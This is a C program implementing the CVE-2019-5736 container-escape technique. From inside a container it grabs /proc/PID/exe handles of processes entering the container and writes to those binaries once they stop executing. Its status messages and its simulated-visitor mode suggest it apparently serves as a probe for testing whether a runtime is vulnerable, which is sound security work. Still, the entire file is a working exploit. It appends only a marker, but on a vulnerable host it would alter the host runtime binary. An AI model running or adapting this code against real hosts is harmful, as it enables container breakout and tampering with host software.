/*
 * Runs inside a container and overwrites the program of whoever enters it (CVE-2019-5736): holds on
 * to /proc/PID/exe of each new process, and writes to it as soon as nobody executes it any more.
 *
 *   attack-exe SECONDS [OWN…]   OWN: programs of the container, not worth a try
 *   attack-exe stay             a careless visitor: stays until the end of its standard input
 *
 * Prints "ready", "held PATH" for each program that it got hold of, "WROTE PATH" for one it
 * changed.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define HELD 64

static struct {
	int fd;
	char path[256];
} held[HELD];
static int n_held;

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static pid_t newest(void)
{
	static int fd = -1;
	char text[128], *last;
	ssize_t n;

	if (fd < 0)
		fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
	n = pread(fd, text, sizeof(text) - 1, 0);
	text[n < 0 ? 0 : n] = 0;
	last = strrchr(text, ' ');
	return last ? atoi(last) : 0;
}

static bool known(const char *path, char **own)
{
	for (; *own; own++)
		if (strcmp(*own, path) == 0)
			return true;
	for (int i = 0; i < n_held; i++)
		if (strcmp(held[i].path, path) == 0)
			return true;
	return false;
}

static void hold(pid_t pid, char **own)
{
	char proc[64], path[256];
	ssize_t n;
	int fd;

	snprintf(proc, sizeof(proc), "/proc/%d/exe", (int)pid);
	n = readlink(proc, path, sizeof(path) - 1);
	if (n <= 0 || n_held == HELD)
		return;
	path[n] = 0;
	fd = known(path, own) ? -1 : open(proc, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	printf("held %s\n", path);
	held[n_held].fd = fd;
	strcpy(held[n_held++].path, path);
}

static void overwrite(void)
{
	for (int i = 0; i < n_held; i++) {
		char proc[64];
		int fd;

		if (held[i].fd < 0)
			continue;
		snprintf(proc, sizeof(proc), "/proc/self/fd/%d", held[i].fd);
		fd = open(proc, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (write(fd, "taken\n", 6) == 6)
			printf("WROTE %s\n", held[i].path);
		close(fd);
		held[i].fd = -1;
	}
}

int main(int argc, char **argv)
{
	double end;
	pid_t next = getpid() + 1;
	char byte;

	if (argc == 2 && strcmp(argv[1], "stay") == 0)
		return read(0, &byte, 1) < 0;
	if (argc < 2)
		return 2;
	end = now() + atof(argv[1]);
	setvbuf(stdout, NULL, _IONBF, 0);
	puts("ready");
	while (now() < end) {
		pid_t last = newest();

		for (pid_t p = next; p <= last; p++) {
			double until = now() + 5; /* it may take its time to execute its program */

			next = p + 1;
			while (now() < until && now() < end && kill(p, 0) == 0)
				hold(p, argv + 2);
		}
		overwrite();
	}
	return 0;
}
